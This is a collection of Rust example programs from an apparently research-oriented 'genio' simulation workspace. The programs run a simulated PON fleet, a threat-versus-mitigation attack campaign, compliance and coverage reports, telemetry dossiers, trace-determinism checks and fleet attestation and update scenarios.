    println!("=================================");
    println!(
        "fleet: {} trees x {} ONUs, {} cycles, seed {}",
        config.trees, config.onus_per_tree, config.cycles, config.seed
    );

    println!(
        "\n  {:<10} {:>6} {:>18} {:>10} {:>10}",
        "workers", "used", "digest", "events", "frames"
    );
    let mut digests = Vec::new();
    for workers in [1usize, 2, 8] {
        let telemetry = Telemetry::enabled();
        let report = simulate_pon_fleet(&config, workers, &telemetry);
        let snapshot = telemetry.snapshot();
        println!(
            "  {:<10} {:>6} 0x{:016x} {:>10} {:>10}",
            workers,
            report.workers,
            report.digest,
            snapshot.counter("pon.fleet.events").unwrap_or(0),
            snapshot.counter("pon.fleet.frames").unwrap_or(0),
        );
        digests.push((report.digest, report.result.stats));
    }

    let invariant = digests.windows(2).all(|w| w[0] == w[1]);
    println!("\nshard-count invariance: {invariant}");
    assert!(invariant, "worker count changed the merged run");

    // Cross-check a smaller fleet against the legacy stepper the
    // differential suite uses as its oracle.
    let small = FleetSimConfig {
        trees: 6,
        onus_per_tree: 8,
        cycles: 4,
        ..config
    };
    let legacy = reference::run(&small);
    let engine = simulate_pon_fleet(&small, 0, &Telemetry::disabled());
    let agrees = legacy.log.digest() == engine.digest && legacy.stats == engine.result.stats;
    println!(
        "reference agreement (6x8 fleet): {agrees} \
         (legacy digest 0x{:016x}, engine digest 0x{:016x})",
        legacy.log.digest(),
        engine.digest
    );
    assert!(agrees, "engine diverged from the legacy reference stepper");

    let stats = &digests[0].1;
    println!(
        "\nstats: activated {} / rogues admitted {} / replays accepted {} / mean fairness {:.4}",
        stats.activated,
        stats.rogues_admitted,
        stats.replays_accepted,
        stats.mean_fairness()
    );
}
