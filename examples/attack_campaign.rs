//! Runs the end-to-end attack campaign (experiment E-S1): every threat
//! T1–T8 executed against the platform with mitigations disabled and
//! enabled.
//!
//! ```sh
//! cargo run --example attack_campaign
//! ```

use genio::core::scenario::{run_campaign, CampaignConfig};
use genio::pon::sim::{run as run_pon_sim, SimConfig};

fn main() {
    let report = run_campaign(&CampaignConfig::default());

    println!("E-S1 — attack campaign, mitigations off vs on");
    println!("==============================================");
    print!("{}", report.render());

    println!("\nEvidence:");
    for row in &report.rows {
        println!("  {} unmitigated: {}", row.threat_id, row.unmitigated.notes);
        println!("  {} mitigated  : {}", row.threat_id, row.mitigated.notes);
    }

    let all_succeed_unmitigated = report.rows.iter().all(|r| r.unmitigated.succeeded);
    let all_stopped_mitigated = report.rows.iter().all(|r| !r.mitigated.succeeded);
    println!(
        "\nshape check: unmitigated all succeed = {all_succeed_unmitigated}, \
         mitigated all stopped = {all_stopped_mitigated}"
    );

    // System-level T1 view: 100 TDMA cycles with an attacker on the fiber.
    println!("\nPON system simulation (100 cycles, 8 ONUs, attacker on fiber):");
    for (label, encrypt, certs) in [
        ("mitigations off (no M3/M4)", false, false),
        ("mitigations on  (M3+M4)", true, true),
    ] {
        let stats = run_pon_sim(&SimConfig {
            encrypt,
            certificate_admission: certs,
            ..SimConfig::default()
        });
        println!(
            "  {label:<28} observed {:>4}  readable {:>4}  replays accepted {}/{}  rogue admitted {}",
            stats.attacker_observed,
            stats.attacker_readable,
            stats.replays_accepted,
            stats.replays_attempted,
            stats.rogue_admitted
        );
    }
}
