//! Prints the CRA-style conformity assessment of the platform, and shows
//! how disabling mitigations opens regulatory gaps — the paper's stated
//! alignment objective made executable.
//!
//! ```sh
//! cargo run --example compliance_report
//! ```

use genio::core::compliance::assess;
use genio::core::lessons;
use genio::core::platform::MitigationSet;
use genio::core::threat_model::MitigationId;

fn main() {
    println!("Regulatory alignment (CRA-style essential requirements)");
    println!("=======================================================");
    let full = assess(&MitigationSet::all());
    print!("{}", full.render());
    assert!(full.conformant());

    println!("\nAfter dropping signed updates (M9):");
    let degraded = assess(&MitigationSet::all().without(MitigationId::M9));
    print!("{}", degraded.render());

    println!("\nLessons catalogue (claims -> experiments -> modules)");
    println!("====================================================");
    print!("{}", lessons::render());
}
