//! Reproduces **Fig. 1**: the GENIO deployment across cloud, edge and
//! far-edge layers, with the latency-driven placement rule.
//!
//! ```sh
//! cargo run --example deployment_report
//! ```

use genio::core::platform::{place_by_latency, DeploymentLayer, Platform};

fn main() {
    let platform = Platform::reference_deployment(7);

    println!("Fig. 1 — GENIO deployment across layers");
    println!("=======================================");
    print!("{}", platform.deployment_summary());

    println!("\nPON trees on olt-1:");
    for tree in &platform.trees {
        println!(
            "  {:<14} split 1:{:<3} trunk {:>5} m  {} ONUs  differential reach {} m",
            tree.olt_name(),
            tree.split_ratio(),
            tree.trunk_m(),
            tree.onu_count(),
            tree.differential_reach_m()
        );
    }

    println!("\nWorkload placement by latency requirement:");
    for (workload, required_ms) in [
        ("batch ML training", 500u32),
        ("video analytics", 50),
        ("telecom network function", 10),
        ("industrial control loop", 2),
        ("infeasible (1 ms)", 1),
    ] {
        match place_by_latency(required_ms) {
            Some(layer) => println!("  {workload:<28} {required_ms:>4} ms -> {}", layer.name()),
            None => println!("  {workload:<28} {required_ms:>4} ms -> (no layer can honour this)"),
        }
    }

    println!("\nLayer envelopes:");
    for layer in [
        DeploymentLayer::Cloud,
        DeploymentLayer::Edge,
        DeploymentLayer::FarEdge,
    ] {
        println!(
            "  {:<16} latency {:>3} ms, capacity {:>3} units",
            layer.name(),
            layer.latency_budget_ms(),
            layer.capacity_units()
        );
    }
}
