//! Reproduces **Fig. 3**: OSS security solutions and standards mapped to
//! threats (T1–T8) and mitigations (M1–M18).
//!
//! ```sh
//! cargo run --example coverage_matrix
//! ```

use genio::core::coverage::CoverageMatrix;
use genio::core::threat_model::{mitigations, threats};

fn main() {
    let matrix = CoverageMatrix::new();

    println!("Fig. 3 — threat x mitigation coverage matrix");
    println!("============================================");
    print!("{}", matrix.render());

    println!("\nThreats:");
    for t in threats() {
        println!(
            "  {:<3} {:<42} [{}] covered by {:?}",
            t.id.to_string(),
            t.name,
            t.layer,
            matrix
                .mitigations_for(t.id)
                .iter()
                .map(|m| m.to_string())
                .collect::<Vec<_>>()
        );
    }

    println!("\nMitigations and their OSS tools:");
    for m in mitigations() {
        println!(
            "  {:<4} {:<42} tools: {}",
            m.id.to_string(),
            m.name,
            m.oss_tools.join(", ")
        );
    }

    assert!(matrix.uncovered_threats().is_empty());
    assert!(matrix.unused_mitigations().is_empty());
    println!("\ncompleteness: every threat covered, every mitigation used.");
}
