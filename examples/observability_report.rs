//! Observability dossier: drive every instrumented subsystem — the full
//! attack campaign plus the PON, crypto, netsec, runtime and
//! orchestrator hot paths — against one shared telemetry handle, then
//! print the per-subsystem latency/counter dossier and both exporter
//! views (`genio-telemetry/v1` JSON and Prometheus text).
//!
//! ```sh
//! cargo run --example observability_report
//! ```

use genio::core::fleet::{Fleet, FleetConfig};
use genio::core::scenario::{run_campaign_instrumented, CampaignConfig};
use genio::crypto::gcm::{AesGcm, NONCE_LEN};
use genio::netsec::macsec::{MacsecConfig, MacsecPeer};
use genio::netsec::onboarding::{onboard_instrumented, DeviceClass, Enrollment};
use genio::orchestrator::admission::{evaluate_instrumented, AdmissionLevel};
use genio::orchestrator::cluster::Cluster;
use genio::orchestrator::scheduler::schedule_instrumented;
use genio::orchestrator::workload::PodSpec;
use genio::pon::sim::{run_instrumented, SimConfig};
use genio::runtime::correlate::correlate_instrumented;
use genio::runtime::events::mixed_trace;
use genio::runtime::falco::{Engine, RuleSetTier};
use genio::telemetry::{chrome_trace, install_panic_dump, validate_tree, Snapshot, Telemetry};

/// Every instrumented crate and the metric prefix its names carry.
const SUBSYSTEMS: [&str; 6] = ["pon", "crypto", "netsec", "runtime", "orchestrator", "core"];

fn main() {
    let telemetry = Telemetry::enabled();

    // Flight recorder: if anything below panics, the buffered span
    // events are dumped as Perfetto-loadable JSON before the process
    // dies — the post-mortem view of what the run was doing.
    let dump_path = trace_dump_path();
    install_panic_dump(&telemetry, &dump_path);

    // core: the full attack campaign plus fleet provisioning.
    let report = run_campaign_instrumented(&CampaignConfig::default(), &telemetry);
    let fleet = Fleet::provision_instrumented(&FleetConfig::default(), &telemetry);
    println!(
        "campaign: {} threat rows ({} nodes provisioned)",
        report.rows.len(),
        fleet.nodes.len()
    );

    // pon: downstream simulation with an active replay attacker.
    let stats = run_instrumented(&SimConfig::default(), &telemetry);
    println!(
        "pon sim: {} frames sent, {} delivered, {} replays attempted",
        stats.frames_sent, stats.frames_delivered, stats.replays_attempted
    );

    // crypto: GEM payload seal/open round-trips.
    let gcm = AesGcm::new(b"0123456789abcdef")
        .expect("16-byte key")
        .instrument(&telemetry);
    let nonce = [7u8; NONCE_LEN];
    for i in 0..32u8 {
        let sealed = gcm.seal(&nonce, &[i; 48], b"gem");
        let opened = gcm.open(&nonce, &sealed, b"gem").expect("round-trip");
        assert_eq!(opened, [i; 48]);
    }

    // netsec: MACsec frames (including a replay) and the onboarding
    // handshake.
    let cfg = MacsecConfig::default();
    let mut olt = MacsecPeer::new(0xA, &cfg, b"cak")
        .expect("peer")
        .with_telemetry(&telemetry);
    let mut onu = MacsecPeer::new(0xB, &cfg, b"cak")
        .expect("peer")
        .with_telemetry(&telemetry);
    for i in 0..16u8 {
        let frame = olt.protect(&[i; 32]).expect("protect");
        onu.validate(&frame).expect("validate");
        if i == 7 {
            assert!(onu.validate(&frame).is_err(), "replay must be rejected");
        }
    }
    let mut enrollment = Enrollment::new(b"fleet-2026", (0, 1_000_000), 7).expect("ca");
    let mut device = enrollment
        .enroll("onu-0042", DeviceClass::Onu, b"onu-0042-key")
        .expect("enrol");
    let mut infra = enrollment
        .enroll("olt-1", DeviceClass::Olt, b"olt-1-key")
        .expect("enrol");
    let anchor = enrollment.trust_anchor();
    let crl = enrollment.crl().clone();
    onboard_instrumented(
        &mut device,
        &mut infra,
        &anchor,
        &crl,
        100,
        b"session-0042",
        &telemetry,
    )
    .expect("onboard");

    // runtime: detection pipeline plus alert correlation.
    let engine = Engine::with_tier(RuleSetTier::Default)
        .expect("rules")
        .instrument(&telemetry);
    let alerts = engine.process_all(&mixed_trace("tenant-a", 500, 3));
    let incidents = correlate_instrumented(&alerts, 5_000, &telemetry);
    println!(
        "runtime: {} alerts correlated into {} incidents",
        alerts.len(),
        incidents.len()
    );

    // orchestrator: admission then scheduling.
    let mut cluster = Cluster::genio_edge();
    for i in 0..4 {
        let pod = PodSpec::new(
            &format!("svc-{i}"),
            "tenant-acme",
            "registry.genio/svc:1.0",
        );
        let violations = evaluate_instrumented(&pod, AdmissionLevel::Restricted, &telemetry);
        assert!(violations.is_empty());
        schedule_instrumented(&mut cluster, pod, &telemetry).expect("capacity");
    }

    // --- The dossier. ---
    let snapshot = telemetry.snapshot();
    print_dossier(&snapshot);

    // Exporter views: machine-readable excerpts of the same snapshot.
    let json = snapshot.to_json();
    let prom = snapshot.to_prometheus();
    println!("\nexporter: genio-telemetry/v1 JSON ({} bytes)", json.to_string().len());
    println!(
        "  schema = {:?}",
        json.get("schema").and_then(|v| v.as_str()).unwrap_or("?")
    );
    println!("exporter: Prometheus text ({} lines), first series:", prom.lines().count());
    for line in prom.lines().take(3) {
        println!("  {line}");
    }

    let ring = snapshot.ring;
    println!(
        "\ntrace ring: {} recorded, {} drained, {} buffered, {} dropped",
        ring.recorded, ring.drained, ring.buffered, ring.dropped
    );
    assert_eq!(ring.recorded, ring.dropped + ring.drained + ring.buffered);

    // --- Flight recorder dump: the same events, Perfetto-loadable. ---
    let events = telemetry.drain_trace();
    let export = chrome_trace(&events);
    match validate_tree(&events) {
        Ok(stats) => println!(
            "\nflight recorder: {} events ({} traced, {} roots, max depth {})",
            stats.events, stats.traced, stats.roots, stats.max_depth
        ),
        Err(e) => {
            eprintln!("flight recorder export is malformed: {e}");
            std::process::exit(1);
        }
    }
    match std::fs::write(&dump_path, &export) {
        Ok(()) => println!(
            "flight recorder: wrote {} bytes to {dump_path} \
             (load in Perfetto / chrome://tracing)",
            export.len()
        ),
        Err(e) => println!("flight recorder: could not write {dump_path}: {e}"),
    }
}

/// Where the flight-recorder JSON lands: `GENIO_TRACE_JSON` if set,
/// otherwise next to the other bench artifacts under `target/`.
fn trace_dump_path() -> String {
    match std::env::var("GENIO_TRACE_JSON") {
        Ok(path) if !path.is_empty() => path,
        _ => {
            let _ = std::fs::create_dir_all("target/genio-trace");
            "target/genio-trace/observability_report.json".to_string()
        }
    }
}

/// Prints per-subsystem counters and latency quantiles, asserting every
/// instrumented crate produced non-zero data.
fn print_dossier(snapshot: &Snapshot) {
    println!("\nper-subsystem observability dossier");
    println!("===================================");
    for subsystem in SUBSYSTEMS {
        let prefix = format!("{subsystem}.");
        println!("\n[{subsystem}]");
        let mut activity = 0u64;
        for (name, value) in &snapshot.counters {
            if name.starts_with(&prefix) {
                println!("  counter   {name:<36} {value}");
                activity += *value;
            }
        }
        for h in &snapshot.histograms {
            if h.name.starts_with(&prefix) {
                let [(_, p50), (_, p95), (_, p99)] = h.quantiles;
                println!(
                    "  histogram {:<36} count {:<6} mean {:>9.0} ns  p50 {p50}  p95 {p95}  p99 {p99}",
                    h.name, h.count, h.mean
                );
                activity += h.count;
            }
        }
        assert!(activity > 0, "subsystem {subsystem} recorded no telemetry");
    }
}
