//! Demonstrates telemetry v2's causal-trace determinism guarantee: the
//! same seed, a [`ManualClock`] and a pinned worker count yield a
//! byte-identical `genio-trace/v1` flight-recorder export, run after
//! run — stripe scheduling and thread interleaving never leak into the
//! canonical output.
//!
//! `scripts/verify.sh` runs this example twice and diffs the outputs as
//! the trace-determinism gate.
//!
//! ```sh
//! cargo run --example trace_determinism
//! ```

use genio::core::fleet::simulate_pon_fleet;
use genio::pon::engine::FleetSimConfig;
use genio::telemetry::{
    chrome_trace, validate_tree, Clock, ManualClock, Telemetry, TelemetryOptions,
};

/// Workers are pinned: the shard span fan-out is part of the tree shape,
/// so determinism is *per worker count* (E-S2 separately proves the
/// simulation result itself is worker-count invariant).
const WORKERS: usize = 2;

fn traced_fleet_run() -> (String, genio::telemetry::TraceTreeStats) {
    let source = ManualClock::new();
    let telemetry = Telemetry::with_options(
        Clock::manual(&source),
        // Stripes pinned (the export is canonical either way) and the
        // ring sized so nothing can drop — a dropped event would make
        // the export depend on scheduling.
        TelemetryOptions { ring_capacity: 65_536, stripes: 4 },
    );
    let config = FleetSimConfig {
        trees: 8,
        onus_per_tree: 16,
        cycles: 4,
        seed: 42,
        ..FleetSimConfig::default()
    };
    let report = simulate_pon_fleet(&config, WORKERS, &telemetry);
    assert!(report.result.stats.frames_sent > 0, "fleet simulated nothing");

    if let Some(ring) = telemetry.ring() {
        let stats = ring.stats();
        assert_eq!(stats.dropped, 0, "ring dropped events; export would be lossy");
    }
    let events = telemetry.drain_trace();
    let stats = match validate_tree(&events) {
        Ok(stats) => stats,
        Err(e) => {
            eprintln!("exported span forest is malformed: {e}");
            std::process::exit(1);
        }
    };
    (chrome_trace(&events), stats)
}

fn main() {
    println!("telemetry v2 — causal trace determinism witness");
    println!("===============================================");

    let (export_a, stats) = traced_fleet_run();
    let (export_b, _) = traced_fleet_run();

    println!(
        "span forest: {} events ({} traced), {} root(s), max depth {}",
        stats.events, stats.traced, stats.roots, stats.max_depth
    );
    println!("export bytes: {}", export_a.len());
    println!("same-seed reruns byte-identical: {}", export_a == export_b);
    assert_eq!(export_a, export_b, "same-seed trace exports diverged");
    assert_eq!(stats.roots, 1, "one traced fleet run must form one tree");
    assert!(stats.max_depth >= 3, "expected run -> shard -> batch nesting");

    // The export itself, so two runs of this *binary* can be diffed.
    println!("\n{export_a}");
}
