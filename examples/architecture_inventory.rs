//! Reproduces **Fig. 2**: the GENIO software architecture, mapping every
//! component of the paper's stack to the simulation module standing in for
//! it.
//!
//! ```sh
//! cargo run --example architecture_inventory
//! ```

use genio::core::architecture;

fn main() {
    println!("Fig. 2 — GENIO architecture inventory");
    println!("=====================================");
    print!("{}", architecture::render());

    let inventory = architecture::inventory();
    println!(
        "\n{} components, all simulated in-workspace.",
        inventory.len()
    );
}
