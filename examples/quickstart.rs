//! Quickstart: assemble the reference GENIO deployment and print its
//! security posture.
//!
//! ```sh
//! cargo run --example quickstart
//! ```

use genio::core::platform::Platform;

fn main() {
    let platform = Platform::reference_deployment(7);
    let report = platform.posture_report();

    println!("GENIO reference deployment");
    println!("==========================");
    print!("{}", platform.deployment_summary());
    println!();
    println!("mitigations enabled : {}/18", report.mitigations_enabled);
    println!("uncovered threats   : {:?}", report.uncovered_threats);
    println!("devices enrolled    : {}", report.devices_enrolled);
    println!("ONUs attached       : {}", report.onus_attached);
    println!(
        "hardening score     : {:.2} ({} residual failures forced by SDN compatibility — Lesson 1)",
        report.hardening_score, report.residual_failures
    );
}
