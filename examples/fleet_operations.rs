//! Domain scenario: a day of fleet operations — provision ten OLTs, run an
//! attestation sweep that catches a compromised node, and roll out a
//! signed OS update with anti-rollback.
//!
//! ```sh
//! cargo run --example fleet_operations
//! ```

use genio::core::fleet::{Fleet, FleetConfig};

fn main() {
    println!("Fleet operations");
    println!("================");

    let mut fleet = Fleet::provision(&FleetConfig::default());
    let (auto, manual) = fleet.unlock_census();
    println!(
        "[provision] {} OLTs online; volume unlock: {auto} TPM-automatic, \
         {manual} manual passphrase (Lesson 3 population)",
        fleet.nodes.len()
    );

    let sweep = fleet.attestation_sweep(b"sweep-morning");
    println!(
        "[attest]    morning sweep: {} nodes diverged",
        sweep.diverged().len()
    );

    println!("[incident]  simulating a persistent implant on olt-04 ...");
    fleet.compromise_node(4);
    let sweep = fleet.attestation_sweep(b"sweep-after-incident");
    println!("[attest]    follow-up sweep flags: {:?}", sweep.diverged());

    let report = fleet
        .rollout("1.1.0", b"onl image v1.1.0 with kernel fixes")
        .unwrap();
    println!(
        "[rollout]   v1.1.0: {} updated, {} refused",
        report.updated.len(),
        report.refused.len()
    );

    // Someone replays last year's image at the fleet.
    let replay = fleet.rollout("0.9.0", b"stale image").unwrap();
    println!(
        "[rollback]  replayed v0.9.0 refused by {}/{} nodes",
        replay.refused.len(),
        fleet.nodes.len()
    );

    let unlockable = fleet.volumes_unlockable();
    println!(
        "[verify]    {unlockable}/{} data volumes still unlock",
        fleet.nodes.len()
    );
}
